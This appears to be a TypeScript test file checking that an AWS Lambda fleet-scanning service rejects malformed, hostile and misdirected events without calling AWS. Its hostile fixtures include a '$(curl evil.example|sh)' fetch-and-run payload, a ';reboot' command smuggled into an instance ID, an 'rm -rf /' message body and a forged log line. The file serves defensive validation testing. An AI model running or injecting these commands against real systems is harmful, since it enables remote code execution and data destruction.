/**
 * Every malformed, hostile or misdirected event, through every function: a one-line InvalidEventError,
 * and not a single call to AWS.
 */
import type { SQSEvent } from 'aws-lambda';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { InvalidEventError } from '#shared/events/parse.ts';
import { createSimulatedFleet, type SimulatedFleet } from '#shared/sim/fleet.ts';
import {
  FUNCTION_NAMES,
  type FunctionName,
  type Invoke,
  type Json,
  readEvent,
  simulatedFunction,
} from '#test/support/handlers.ts';

const alarm = () => readEvent('events/alarm-triage/single-metric.json') as Record<string, Json>;
const shardEvent = () => readEvent('events/scan-worker/shard.json') as SQSEvent;
function shardWith(mutate: (message: Record<string, Json>) => void): SQSEvent {
  const event = shardEvent();
  const record = event.Records[0];
  if (record === undefined) throw new Error('sample shard has no record');
  const message = JSON.parse(record.body);
  mutate(message);
  return { Records: [{ ...record, body: JSON.stringify(message) }] };
}

const bad: Record<string, unknown> = {
  null: null,
  'an array': [],
  'a string': 'i-12345678901234567',
  'an empty object': {},
  'an alarm with a shell command as InstanceId': (() => {
    const e = alarm();
    e.detail.configuration.metrics[0].metricStat.metric.dimensions.InstanceId = '$(curl evil.example|sh)';
    return e;
  })(),
  'an alarm with a newline in its name': (() => {
    const e = alarm();
    e.detail.alarmName = 'x\n{"level":"ERROR","forged":true}';
    return e;
  })(),
  'an alarm whose state is a number': (() => {
    const e = alarm();
    e.detail.state.value = 3;
    return e;
  })(),
  'a Lambda alarm-action payload': readEvent(
    'test/fixtures/events/aws-lambda-java-libs/cloudwatch_metric_alarm.json',
  ),
  'the alarmData hybrid': readEvent(
    'test/fixtures/events/aws-lambda-rust-runtime/example-cloudwatch-alarm-composite-with-suppressor-alarm.json',
  ),
  'an alarm configuration change': readEvent('test/fixtures/bad-events/alarm-configuration-change.json'),
  'a Scheduled Event with instructions in detail': {
    ...(readEvent('events/fleet-scan/scheduled-event.json') as object),
    detail: { instanceIds: ['i-12345678901234567'], command: 'reboot' },
  },
  'Scheduler input asking for another lookback': {
    ...(readEvent('events/fleet-scan/scheduler-input.json') as object),
    lookbackDays: 455,
  },
  'an SQS event without records': { Records: [] },
  'an SQS record that is not JSON': { Records: [{ ...shardEvent().Records[0], body: 'rm -rf /' }] },
  'a shard naming an instance id that is not one': shardWith((m) => {
    m.instances[0].instanceId = 'i-12345678901234567;reboot';
  }),
  'a shard with another instance in a dimension': shardWith((m) => {
    m.instances[0].metrics['network-out'][0].value = 'i-0c0ffee0000000001';
  }),
  'a shard asking for 400 days': shardWith((m) => {
    m.window.start = '2025-09-30T00:00:00.000Z';
    m.window.periodSeconds = 3600;
  }),
  'a shard with a control character in a dimension': shardWith((m) => {
    m.instances[0].metrics['s3fs-rss'][1].value = 's3fs\u0000';
  }),
};
/** Good events, each meant for one function only. */
const misdirected: Record<string, [FunctionName, unknown]> = {
  'a Scheduled Event': ['fleet-scan', readEvent('events/fleet-scan/scheduled-event.json')],
  'Scheduler input': ['fleet-scan', readEvent('events/fleet-scan/scheduler-input.json')],
  'a shard on SQS': ['scan-worker', shardEvent()],
  'an alarm state change': ['alarm-triage', alarm()],
  'a finding on the bus': ['remediate', readEvent('events/remediate/finding-updatedb-crawl.json')],
  'a workflow step': ['workflow-step', readEvent('events/workflow-step/prepare.json')],
};

let fleet: SimulatedFleet;
const handlers = new Map<FunctionName, Invoke>();
beforeAll(() => {
  fleet = createSimulatedFleet({ instances: 5 });
  for (const name of FUNCTION_NAMES) handlers.set(name, simulatedFunction(name, fleet));
});
afterAll(() => fleet.restore());

async function expectRefused(name: FunctionName, event: unknown): Promise<string> {
  const before = fleet.requests.length;
  const handler = handlers.get(name);
  if (handler === undefined) throw new Error(name);
  const error = await handler(event).then(
    () => null,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(InvalidEventError);
  const message = (error as Error).message;
  expect(message).not.toContain('\n');
  expect(fleet.requests.length).toBe(before);
  expect(fleet.published).toEqual([]);
  expect(fleet.queued).toEqual([]);
  return message;
}

describe.each(FUNCTION_NAMES)('%s', (name) => {
  it.each(Object.entries(bad))('refuses %s, and sends nothing', async (_, event) => {
    await expectRefused(name, event);
  });

  it.each(Object.entries(misdirected).filter(([, [target]]) => target !== name))(
    'refuses %s (meant for another function), saying what it got',
    async (_, [, event]) => {
      expect(await expectRefused(name, event)).toMatch(
        /^expected .+, got (an SQS event|an EventBridge "|crawlguard input|an object with keys ")/,
      );
    },
  );
});
